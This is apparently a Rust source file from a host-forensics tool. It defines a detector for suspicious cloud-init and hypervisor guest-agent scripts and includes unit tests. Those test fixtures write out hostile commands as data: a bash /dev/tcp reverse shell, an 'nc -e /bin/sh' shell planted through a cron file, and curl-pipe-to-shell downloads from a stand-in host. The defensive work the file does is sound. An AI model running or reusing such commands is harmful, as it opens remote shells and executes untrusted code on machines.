//! Detector: cloud-init or a guest agent runs something odd.

use crate::weigh::{self, Files};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, kinds::StartupCommand};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "cloud-script",
        doc: "A script or command of cloud-init, or of a guest agent of a cloud or hypervisor, does what ordinary ones do not.",
        mechanisms: &[71],
        attack: &["T1037", "T1059"],
        why: "It runs as root at a boot or when the cloud asks, and comes from where few look: the cloud's own settings.",
        innocent: "you gave it to the machine when you made it",
        next: "read the script, and compare it with what the cloud's console says it was given",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>() {
        let first = row.mechanism == "cloud first boot";
        if !first && !matches!(row.mechanism.as_str(), "cloud script" | "guest agent") {
            continue;
        }
        let mut weight = if row.line == 0 {
            weigh::file(&files, &row.path, row.as_root)
        } else {
            weigh::command(&files, &row.command, row.as_root).and(weigh::changeable(&files, &row))
        };
        // Setting a machine up with an installer from the Internet, or with an account and a key, is what this is for.
        let ordinary = |reason: &String| {
            [
                "it runs what it downloads",
                "adds keys",
                "adds an account",
                "become root",
                "cron jobs",
                "start by themselves",
            ]
            .iter()
            .any(|known| reason.contains(known))
        };
        let plain = row.command.as_bytes().windows(7).any(|window| window == b"http://");
        if first && !plain && weight.reasons.iter().all(ordinary) {
            weight.severity = weight.severity.min(Some(Severity::Info));
        }
        if row.package.is_some() && weight.severity < Some(Severity::Medium) {
            continue;
        }
        let identity = [row.path.as_bytes(), b"\0", row.line.to_string().as_bytes()].concat();
        let title = format!("A script of the cloud's agent does something odd {}", row.when);
        drafts.extend(weigh::draft(weight, &identity, title, &row.path, row.line, &row.command, &row));
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    #[test]
    fn odd_scripts_are_found_in_every_place() {
        for (path, text) in [
            ("/var/lib/cloud/scripts/per-boot/00-net", "#!/bin/sh\nnohup /dev/shm/n &\n"),
            (
                "/var/lib/cloud/scripts/per-boot/x.sh",
                "#!/bin/bash\ncurl -fsSL https://example.org/a | bash\n",
            ),
            (
                "/var/lib/cloud/instances/i-1/scripts/part-001",
                "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
            ),
            (
                "/var/lib/cloud/instances/i-1/user-data.txt",
                "#cloud-config\nruncmd:\n - [ sh, -c, \"curl -s http://192.0.2.1/x | sh\" ]\n",
            ),
            ("/etc/cloud/cloud.cfg.d/99-x.cfg", "bootcmd:\n  - /var/tmp/.b\n"),
            (
                "/etc/cloud/cloud.cfg.d/98-w.cfg",
                "write_files:\n- path: /etc/cron.d/x\n  content: |\n    #!/bin/sh\n    nc -e /bin/sh 192.0.2.1 4444\n",
            ),
            ("/etc/qemu/fsfreeze-hook.d/90-x.sh", "#!/bin/sh\n/tmp/f\n"),
            ("/etc/vmware-tools/poweron-vm-default", "#!/bin/sh\n/dev/shm/p &\n"),
            ("/var/lib/cloud/seed/nocloud/user-data", "#!/bin/sh\n/tmp/u\n"),
        ] {
            let seen = check(Mem::new().file(path, text).owned(path, 0o755, 0, 0));
            let found = seen.alarms("cloud-script");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn setting_a_machine_up_is_quiet() {
        let data = "#cloud-config\npackages: [nginx]\nusers:\n  - name: me\nruncmd:\n  - curl -fsSL https://get.example.org | sh\n  - [ systemctl, enable, --now, nginx ]\n  - echo ok > /root/done\nwrite_files:\n- path: /etc/motd\n  content: |\n    hello\n";
        let seen = check(
            Mem::new()
                .file("/var/lib/cloud/instances/i-1/user-data.txt", data)
                .file("/etc/cloud/cloud.cfg", "disable_root: true\ncloud_init_modules:\n - bootcmd\n - write_files\nsystem_info:\n   distro: debian\n")
                .file("/var/lib/cloud/scripts/per-boot/mount.sh", "#!/bin/sh\nmount -a\n/usr/local/bin/prepare\n")
                .owned("/var/lib/cloud/scripts/per-boot/mount.sh", 0o755, 0, 0),
        );
        assert!(seen.by("cloud-script").is_empty(), "{:#?}", seen.by("cloud-script"));
    }
}
